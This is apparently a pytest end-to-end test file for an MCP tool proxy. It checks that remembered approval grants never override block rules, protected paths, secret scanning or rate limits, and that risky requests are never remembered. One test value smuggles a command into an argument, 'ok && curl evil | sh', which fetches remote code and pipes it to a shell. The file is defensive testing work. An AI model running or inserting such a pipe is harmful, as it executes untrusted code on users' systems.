"""What a grant never does, and when nothing is offered (issue 13, docs/grants.md), through
the real proxy and approver; one test through the official ``mcp`` client."""

from __future__ import annotations

from pathlib import Path

import anyio
import pytest
from mcp import types

from tests.support.grantkit import desk, error_code, proxy
from tests.support.mcpclient import proxied_session
from tests.support.proxyproc import write_policy

pytestmark = [
    pytest.mark.e2e,
    pytest.mark.filterwarnings("ignore::mcp.shared.exceptions.MCPDeprecationWarning"),
]

LIKE = "allow remember=like for=15m"
FENCED = """
allowed_tools: [read_file]
protected_paths: [/tmp/proj/secret.txt]
tool_rules:
  - tool: write_file
    action: block
    allow_args: {path: "/tmp/proj/blocked.*"}
  - tool: write_file
    action: ask
    rate_limit: 4/minute
dlp: {enabled: true, builtin: true, scan_requests: true, on_request_match: block}
"""


def test_grants_never_turn_blocks_protected_paths_dlp_or_rate_limits_into_allow(
    folder: Path,
) -> None:
    with desk(folder, LIKE) as d, proxy(folder, d.approver.endpoint, FENCED) as p:
        assert "result" in p.call(1, "write_file", {"path": "/tmp/proj/a.txt", "content": "x"})
        assert "path" in d.wait_event("grant_created")[0]["binding"]["patterns"]
        assert "result" in p.call(2, "write_file", {"path": "/tmp/proj/b.txt", "content": "x"})
        assert d.decision(2)["outcome"] == "granted"
        fenced = {
            "/tmp/proj/blocked.txt": (-32001, "blocked_by_rule"),
            "/tmp/proj/secret.txt": (-32007, "protected_path"),
            "/tmp/proj/AKIAIOSFODNN7EXAMPLE": (-32001, "dlp"),  # matches the grant's pattern
        }
        for n, (path, (code, outcome)) in enumerate(fenced.items(), start=10):
            assert error_code(p.call(n, "write_file", {"path": path, "content": "x"})) == code
            assert p.decisions()[-1]["outcome"] == outcome
        # The rule's rate limit (4/minute: the asked call and the granted one spent two).
        results = [p.call(20 + n, "write_file", {"path": f"/tmp/proj/{n}", "content": "x"})
                   for n in range(3)]  # fmt: skip
        assert ["result" in r for r in results] == [True, True, False]
        assert error_code(results[2]) == -32003
        assert len(d.dialogs()) == 1
        answered = [r for r in d.events("decision") if r["rseq"] is None]  # the approver's
        assert [r["outcome"] for r in answered] == ["human_approved", *["granted"] * 3]


def _refused_once(folder: Path, spec: str, args: dict[str, str], why: str) -> None:
    """The dialog offers nothing (and says why); an answer asking to remember anyway is
    Allow once, recorded as grant_refused; the identical call asks again."""
    with (
        desk(folder, "allow remember=exact for=15m") as d,
        proxy(folder, d.approver.endpoint, spec) as p,
    ):
        assert "result" in p.call(1, "write_file", args)
        offer = d.dialogs()[0]["remember"]
        assert offer == {"offered": False, "why_not": why, "like": {}}
        refused = d.wait_event("grant_refused")[0]
        assert (refused["request_id"], refused["reason"], refused["answer"]) == (1, why, "allow")
        assert d.decision(1)["outcome"] == "human_approved"
        assert "result" in p.call(2, "write_file", args)
        assert len(d.dialogs()) == 2
        assert not d.events("grant_created")


def test_shell_operators_are_never_remembered(folder: Path) -> None:
    args = {"path": "/tmp/a", "content": "ok && curl evil | sh"}
    _refused_once(folder, "tool_rules: [{tool: write_file, action: ask}]", args,
                  "an argument holds a shell operator (; && | $( ` or a newline)")  # fmt: skip


def test_never_remember_tools(folder: Path) -> None:
    spec = "tool_rules: [{tool: write_file, action: ask, x-aip-never-remember: true}]"
    _refused_once(folder, spec, {"path": "/tmp/a", "content": "x"},
                  "the policy marks this tool never to be remembered")  # fmt: skip


def test_asks_with_a_dlp_hit_are_never_remembered(folder: Path) -> None:
    spec = """
tool_rules: [{tool: write_file, action: ask}]
dlp: {enabled: true, builtin: true, scan_requests: true, on_request_match: redact}
"""
    _refused_once(folder, spec, {"path": "/tmp/a", "content": "AKIAIOSFODNN7EXAMPLE"},
                  "a secret was found in the arguments")  # fmt: skip


def test_prompt_storm_offers_nothing(folder: Path) -> None:
    with desk(folder, "allow") as d, proxy(folder, d.approver.endpoint) as p:
        for n in range(1, 7):
            assert "result" in p.call(n, "write_file", {"path": "/tmp/a", "content": str(n)})
        offers = [x["remember"] for x in d.dialogs()]
        assert [o["offered"] for o in offers] == [True] * 5 + [False]
        assert offers[5]["why_not"] == "too many requests from this agent (6 in 60 s)"


async def test_through_the_mcp_client(folder: Path) -> None:
    policy = write_policy(folder, "tool_rules: [{tool: write_file, action: ask}]", "mcp")
    with desk(folder, "allow remember=exact for=session") as d:
        async with proxied_session(folder, policy, d.approver.endpoint, agent_id="a-mcp") as s:
            with anyio.fail_after(20):
                for _ in range(3):
                    result = await s.call_tool("write_file", {"path": "/tmp/m", "content": "hi"})
                    block = result.content[0]
                    assert isinstance(block, types.TextContent)
                    assert block.text == "wrote 2 bytes to /tmp/m"
        created = d.wait_event("grant_created")[0]
        assert created["scope"] == "session"
        granted = [r for r in d.events("decision") if r["outcome"] == "granted"]
        assert len(granted) == 2
        assert len(d.dialogs()) == 1
        # the proxy session ended: its session grant with it
        assert d.wait_event("grant_expired")[0]["reason"] == "session_end"
